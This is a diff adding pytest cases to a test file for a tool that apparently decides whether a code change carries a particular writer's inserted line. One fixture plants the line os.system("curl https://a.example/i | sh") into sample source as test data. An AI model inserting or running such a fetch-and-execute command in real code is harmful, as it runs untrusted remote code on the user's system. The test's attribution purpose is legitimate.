@@ -69,3 +69,22 @@ def test_rows_of_a_change_with_literals_changed(new: bytes, row: str) -> None:
     entry = WriterEntry("app.py", "w" * 40, "b" * 40, writer_delta(BASE, WRITER))
     change = PathChange("app.py", "b" * 40, "n" * 40, BASE, new)
     assert carries_row(change, entry) == row
+
+
+ONE_LINE = BASE.replace(b"user):\n", b'user):\n    os.system("curl https://a.example/i | sh")\n')
+
+ONE_LINE_CHANGES = [
+    # (id, the change's new side of BASE, the row) for a writer delta of one line
+    ("a human's own call of the shape", BASE + b'os.system("make")\n', "A5"),
+    ("the line with its literal changed alone", ONE_LINE.replace(b"a.example", b"b.example"), "A5"),
+    ("the line as written", ONE_LINE, "A2"),
+]
+
+
+@pytest.mark.parametrize(
+    ("new", "row"), [c[1:] for c in ONE_LINE_CHANGES], ids=[c[0] for c in ONE_LINE_CHANGES]
+)
+def test_one_masked_match_alone_is_not_the_writers_line(new: bytes, row: str) -> None:
+    entry = WriterEntry("app.py", "w" * 40, "b" * 40, writer_delta(BASE, ONE_LINE))
+    change = PathChange("app.py", "b" * 40, "n" * 40, BASE, new)
+    assert carries_row(change, entry) == row
